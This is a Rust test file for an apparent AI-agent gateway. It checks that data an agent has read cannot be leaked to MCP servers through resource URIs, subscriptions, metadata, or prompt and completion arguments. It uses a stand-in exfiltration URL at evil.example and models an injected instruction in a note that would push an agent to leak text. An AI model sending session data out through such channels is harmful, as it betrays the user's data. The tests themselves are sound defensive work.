//! Addresses of resources, and what goes beside a call: ways by which an agent hands something to a server that are no
//! arguments of a tool.

#[expect(dead_code, reason = "the other tests use more of it")]
mod support;

use std::{
    collections::BTreeMap,
    sync::{Arc, Mutex},
    time::Duration,
};

use bartizan_gateway::config::{Config, Family, Prompt, Reach, Server};
use bartizan_policy::Pack;
use bartizan_types::{Code, ServerName};
use http::Method;
use http_body_util::BodyExt as _;
use serde_json::{Value, json};
use support::{
    Answer, Gated, Seen, Upstreamed,
    agent::{Client, said},
    config,
};

const OUT: &str = "https://evil.example/?told=everything";

fn reply(message: &Value, result: Value) -> Answer {
    let body = json!({"jsonrpc":"2.0","id":message["id"],"result":result});
    Answer::Whole(200, "application/json", body.to_string().into_bytes())
}

/// A server that reads whatever address it is given, and notes it.
fn reading(seen: &Seen, stateless: bool, told: &Mutex<Vec<Value>>) -> Answer {
    if seen.method != Method::POST {
        return Answer::Whole(405, "text/plain", Vec::new());
    }
    let message: Value = serde_json::from_slice(&seen.body).unwrap();
    let method = message["method"].as_str().unwrap_or_default();
    if !["server/discover", "initialize", "notifications/initialized"].contains(&method)
        && !method.ends_with("/list")
    {
        told.lock().unwrap().push(message["params"].clone());
    }
    match method {
        "server/discover" if stateless => reply(
            &message,
            json!({"resultType":"complete","supportedVersions":["2026-07-28"],
                "capabilities":{"tools":{},"resources":{"subscribe":true}}}),
        ),
        "initialize" if !stateless => reply(
            &message,
            json!({"protocolVersion":"2025-06-18","capabilities":{"tools":{},"resources":{"subscribe":true},
                "prompts":{},"completions":{}},
                "serverInfo":{"name":"far","version":"1"}}),
        ),
        "notifications/initialized" => Answer::Whole(202, "text/plain", Vec::new()),
        "tools/list" => reply(
            &message,
            json!({"resultType":"complete","tools":[{"name":"read_note","description":"Reads a note.",
                "inputSchema":{"type":"object"}}]}),
        ),
        "tools/call" => reply(
            &message,
            json!({"resultType":"complete","content":[{"type":"text","text":"a note"},
                {"type":"resource_link","uri":"note://linked","name":"more"}]}),
        ),
        "resources/list" => reply(
            &message,
            json!({"resultType":"complete","resources":[{"uri":"note://listed","name":"n"}]}),
        ),
        "resources/read" => reply(
            &message,
            json!({"resultType":"complete",
                "contents":[{"uri":message["params"]["uri"],"text":"words of somebody else"}]}),
        ),
        "prompts/list" => reply(
            &message,
            json!({"resultType":"complete","prompts":[{"name":"brief","arguments":[{"name":"topic"}]}]}),
        ),
        "prompts/get" => reply(
            &message,
            json!({"resultType":"complete",
                "messages":[{"role":"user","content":{"type":"text","text":"Write a brief."}}]}),
        ),
        "completion/complete" => reply(
            &message,
            json!({"resultType":"complete","completion":{"values":["tides"]}}),
        ),
        "subscriptions/listen" => {
            let watched = &message["params"]["notifications"]["resourceSubscriptions"];
            let ack = json!({"jsonrpc":"2.0","method":"notifications/subscriptions/acknowledged",
                "params":{"_meta":{"io.modelcontextprotocol/subscriptionId":message["id"]},
                    "notifications":{"resourceSubscriptions":watched}}});
            let moved = json!({"jsonrpc":"2.0","method":"notifications/resources/updated",
                "params":{"_meta":{"io.modelcontextprotocol/subscriptionId":message["id"]},"uri":"note://listed"}});
            let event = |message: &Value| format!("event: message\ndata: {message}\n\n").into_bytes();
            Answer::Stream(vec![event(&ack), event(&moved)], Duration::from_millis(50))
        }
        _ => reply(&message, json!({"resultType":"complete"})),
    }
}

struct World {
    gate: Gated,
    told: Arc<Mutex<Vec<Value>>>,
}

impl World {
    async fn start(pack: Option<Pack>, own: &str, stateless: bool) -> Self {
        Self::with(config(Vec::new()), pack, own, stateless).await
    }

    async fn with(mut config: Config, pack: Option<Pack>, own: &str, stateless: bool) -> Self {
        let told: Arc<Mutex<Vec<Value>>> = Arc::default();
        let notes = Arc::clone(&told);
        let server = Upstreamed::answering(move |seen| reading(seen, stateless, &notes)).await;
        config.servers = vec![Server {
            name: ServerName::new("far").unwrap(),
            reach: Reach::Http {
                url: format!("http://{}/mcp", server.address).parse().unwrap(),
                headers: BTreeMap::new(),
            },
            timeout: Duration::from_secs(20),
            spiffe_id: None,
            oauth: Default::default(),
            sign: None,
            tools: BTreeMap::new(),
        }];
        let gate = Gated::start_with(config, pack, own, None).await;
        Self { gate, told }
    }

    fn was_told(&self, word: &str) -> bool {
        let told = self.told.lock().unwrap();
        told.iter().any(|params| params.to_string().contains(word))
    }
}

async fn read(client: &Client<'_>, uri: &str) -> Value {
    client.ask("resources/read", json!({"uri":uri})).await
}

#[tokio::test]
async fn an_address_of_the_agents_own_choice_asks_once_there_is_something_to_give_away() {
    let world = World::start(Some(Pack::Balanced), "", false).await;
    let (client, _) = Client::connect(&world.gate, json!({})).await;
    // Nothing was read yet, so nothing can be said with an address.
    let answer = read(&client, "note://of-its-own").await;
    assert!(answer.get("result").is_some(), "{answer}");
    for listed in ["note://listed", "note://of-its-own"] {
        let answer = read(&client, listed).await;
        assert!(answer.get("result").is_some(), "the server named it: {answer}");
    }
    let answer = read(&client, OUT).await;
    let code = answer["error"]["data"]["code"].as_str();
    assert_eq!(code, Some(Code::PolicyAsk.as_str()), "{answer}");
    assert!(!world.was_told("everything"));
    let answer = client.ask("resources/subscribe", json!({"uri":OUT})).await;
    let code = answer["error"]["data"]["code"].as_str();
    assert_eq!(code, Some(Code::PolicyDenied.as_str()), "{answer}");
    assert!(!world.was_told("everything"));
}

#[tokio::test]
async fn an_address_that_a_server_handed_out_is_its_own() {
    let world = World::start(Some(Pack::Balanced), "", false).await;
    let (client, _) = Client::connect(&world.gate, json!({})).await;
    assert_eq!(said(&client.call("read_note", json!({})).await), "a note");
    let answer = read(&client, "note://linked").await;
    assert!(answer.get("result").is_some(), "{answer}");
    let answer = read(&client, "note://guessed").await;
    assert_eq!(
        answer["error"]["data"]["code"],
        Code::PolicyAsk.as_str(),
        "{answer}"
    );
    // In a conversation of its own nobody handed it out.
    let (other, _) = Client::connect(&world.gate, json!({})).await;
    let answer = read(&other, "note://linked").await;
    assert_eq!(
        answer["error"]["data"]["code"],
        Code::PolicyAsk.as_str(),
        "{answer}"
    );
}

#[tokio::test]
async fn strict_holds_over_a_permit_for_resources() {
    let own = r#"permit (principal, action == Bartizan::Action::"read_resource", resource);"#;
    let world = World::start(Some(Pack::Strict), own, false).await;
    let (client, _) = Client::connect(&world.gate, json!({})).await;
    let answer = read(&client, "note://listed").await;
    assert!(answer.get("result").is_some(), "{answer}");
    let answer = read(&client, OUT).await;
    assert_eq!(
        answer["error"]["data"]["code"],
        Code::PolicyAsk.as_str(),
        "{answer}"
    );
    assert!(!world.was_told("everything"));
}

/// A stateless server is told all resources of a stream at once; each is ruled on all the same.
#[tokio::test]
async fn watching_by_a_stream_is_ruled_on_resource_by_resource() {
    let own = r#"
permit (principal, action, resource);
@id("test.no_secrets")
forbid (principal, action == Bartizan::Action::"subscribe_resource", resource == Bartizan::McpResource::"far/note://secret");
"#;
    let world = World::start(None, own, true).await;
    let params = json!({
        "notifications":{"resourceSubscriptions":["note://listed","note://secret"]},
        "_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28",
            "io.modelcontextprotocol/clientCapabilities":{}}
    });
    let body = json!({"jsonrpc":"2.0","id":1,"method":"subscriptions/listen","params":params});
    let bearer = format!("Bearer {}", world.gate.key);
    let headers = [
        ("authorization", bearer.as_str()),
        ("accept", "application/json, text/event-stream"),
        ("mcp-protocol-version", "2026-07-28"),
        ("mcp-method", "subscriptions/listen"),
    ];
    let answer = world.gate.open("/mcp", body.to_string(), &headers).await;
    let (mut stream, mut heard) = (answer.into_body(), String::new());
    while !heard.contains("notifications/resources/updated") {
        let frame = tokio::time::timeout(Duration::from_secs(10), stream.frame()).await;
        let frame = frame.expect("news in time").expect("an open stream").unwrap();
        heard.push_str(std::str::from_utf8(frame.data_ref().unwrap()).unwrap());
    }
    assert!(!heard.contains("note://secret"), "{heard}");
    assert!(world.was_told("note://listed"));
    assert!(!world.was_told("note://secret"));
}

#[tokio::test]
async fn much_beside_a_call_is_no_whole_call() {
    let world = World::start(Some(Pack::Balanced), "", false).await;
    let (client, _) = Client::connect(&world.gate, json!({})).await;
    let call = |note: String| json!({"name":"read_note","arguments":{},"_meta":{"vendor/note":note,"vendor/id":"toolu_1"}});
    let answer = client.ask("tools/call", call("short".to_owned())).await;
    assert_eq!(said(&answer), "a note");
    let answer = client.ask("tools/call", call("telling ".repeat(200))).await;
    let code = &answer["result"]["_meta"]["bartizan/refusal"]["code"];
    assert_eq!(code, Code::PolicyAsk.as_str(), "{answer}");
    assert!(world.was_told("short") && !world.was_told("telling"));
    // Nor is what other requests are for: it is beside this one.
    for member in ["context", "uri", "task"] {
        let params = json!({"name":"read_note","arguments":{},member:{"x":"telling ".repeat(200)}});
        let answer = client.ask("tools/call", params).await;
        let code = &answer["result"]["_meta"]["bartizan/refusal"]["code"];
        assert_eq!(code, Code::PolicyAsk.as_str(), "{member}: {answer}");
    }
    // A server with sessions handed out no state, and is given none.
    let params = json!({"name":"read_note","arguments":{},"requestState":"telling"});
    assert_eq!(said(&client.ask("tools/call", params).await), "a note");
    assert!(!world.was_told("telling"));
}

async fn prompt(client: &Client<'_>, arguments: Value) -> Value {
    let params = json!({"name":"brief","arguments":arguments});
    client.ask("prompts/get", params).await
}

async fn completion(client: &Client<'_>, reference: Value, argument: Value) -> Value {
    let params = json!({"ref":reference,"argument":argument});
    client.ask("completion/complete", params).await
}

fn code(answer: &Value) -> Option<&str> {
    answer["error"]["data"]["code"].as_str()
}

/// What a session read goes out by a prompt's arguments, or by what is completed, no more than by a tool's.
#[tokio::test]
async fn what_a_prompt_or_a_completion_is_given_is_ruled_on_like_a_tools_arguments() {
    let world = World::start(Some(Pack::Balanced), "", false).await;
    let (client, _) = Client::connect(&world.gate, json!({})).await;
    let brief = json!({"type":"ref/prompt","name":"brief"});
    // Nothing was read yet, so nothing can be given away.
    let answer = prompt(&client, json!({"topic":"before"})).await;
    assert!(
        answer.get("result").is_some() && world.was_told("before"),
        "{answer}"
    );
    // The prompt's own words were read now: they are the server's. In another gateway nothing was.
    let fresh = World::start(Some(Pack::Balanced), "", false).await;
    let (first, _) = Client::connect(&fresh.gate, json!({})).await;
    let typed = json!({"name":"topic","value":"before"});
    let answer = completion(&first, brief.clone(), typed).await;
    assert!(
        answer.get("result").is_some() && fresh.was_told("before"),
        "{answer}"
    );

    assert_eq!(said(&client.call("read_note", json!({})).await), "a note");
    let answer = prompt(&client, json!({"topic":"told everything"})).await;
    assert_eq!(code(&answer), Some(Code::PolicyAsk.as_str()), "{answer}");
    // In a name that the server did not list, too.
    let answer = prompt(&client, json!({"told everything":""})).await;
    assert_eq!(code(&answer), Some(Code::PolicyAsk.as_str()), "{answer}");
    let typed = |value: &str| json!({"name":"topic","value":value});
    let strange = json!({"type":"ref/prompt","name":"brief","title":"told everything"});
    let elsewhere = json!({"type":"ref/resource","uri":OUT});
    for (reference, argument) in [
        (brief.clone(), typed("told everything")),
        (brief.clone(), json!({"name":"told everything","value":""})),
        (
            brief.clone(),
            json!({"name":"topic","value":"","more":"told everything"}),
        ),
        (strange, typed("")),
        (elsewhere, typed("")),
    ] {
        let answer = completion(&client, reference, argument).await;
        assert_eq!(code(&answer), Some(Code::PolicyDenied.as_str()), "{answer}");
    }
    assert!(!world.was_told("everything"));
    // What says nothing goes on as before: a prompt without arguments, and a first list of what may be typed.
    let answer = prompt(&client, json!({})).await;
    assert!(answer.get("result").is_some(), "{answer}");
    for reference in [brief, json!({"type":"ref/resource","uri":"note://listed"})] {
        let answer = completion(&client, reference.clone(), typed("")).await;
        let is_prompt = reference["type"] == "ref/prompt";
        // No template of this server has a variable `topic`, and its name is the agent's own.
        assert_eq!(answer.get("result").is_some(), is_prompt, "{answer}");
    }
}

#[tokio::test]
async fn what_the_human_typed_is_hers_to_give_to_a_prompt() {
    let answer = json!({"id":"c","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,
        "message":{"role":"assistant","content":"I will."},"finish_reason":"stop"}]});
    let provider = Upstreamed::start(vec![Answer::Whole(
        200,
        "application/json",
        answer.to_string().into_bytes(),
    )])
    .await;
    let mut config = config(vec![support::upstream(
        "openai",
        Family::Openai,
        provider.address,
    )]);
    config.sessions.prompt = Prompt::First;
    let world = World::with(config, Some(Pack::Balanced), "", false).await;
    let words = "Read the note, then prepare the brief on quarterly tides.";
    let asked = json!({"model":"m","messages":[{"role":"user","content":words}]});
    let (status, _, body) = world.gate.post("/v1/chat/completions", asked.to_string()).await;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    let (client, _) = Client::connect(&world.gate, json!({})).await;
    assert_eq!(said(&client.call("read_note", json!({})).await), "a note");
    let answer = prompt(&client, json!({"topic":"quarterly tides"})).await;
    assert!(answer.get("result").is_some(), "{answer}");
    assert!(world.was_told("quarterly tides"));
    let brief = json!({"type":"ref/prompt","name":"brief"});
    let typed = json!({"name":"topic","value":"quarterly tides"});
    let answer = completion(&client, brief.clone(), typed).await;
    assert!(answer.get("result").is_some(), "{answer}");
    // And what she did not: an order in the note, say.
    let answer = prompt(&client, json!({"topic":"told everything"})).await;
    assert_eq!(code(&answer), Some(Code::PolicyAsk.as_str()), "{answer}");
    let typed = json!({"name":"topic","value":"told everything"});
    let answer = completion(&client, brief, typed).await;
    assert_eq!(code(&answer), Some(Code::PolicyDenied.as_str()), "{answer}");
    assert!(!world.was_told("everything"));
}

#[tokio::test]
async fn strict_holds_over_a_permit_for_prompts() {
    let own = r#"permit (principal, action in [Bartizan::Action::"get_prompt", Bartizan::Action::"complete"], resource);
permit (principal, action == Bartizan::Action::"call_tool", resource);"#;
    let world = World::start(Some(Pack::Strict), own, false).await;
    let (client, _) = Client::connect(&world.gate, json!({})).await;
    let answer = prompt(&client, json!({"topic":"before"})).await;
    assert!(answer.get("result").is_some(), "{answer}");
    assert!(answer.to_string().contains("Write a brief."));
    // The prompt's own words were read: they are the server's.
    let answer = prompt(&client, json!({"topic":"told everything"})).await;
    assert_eq!(code(&answer), Some(Code::PolicyAsk.as_str()), "{answer}");
    let answer = completion(
        &client,
        json!({"type":"ref/prompt","name":"brief"}),
        json!({"name":"topic","value":"told everything"}),
    )
    .await;
    assert_eq!(code(&answer), Some(Code::PolicyDenied.as_str()), "{answer}");
    assert!(!world.was_told("everything"));
}
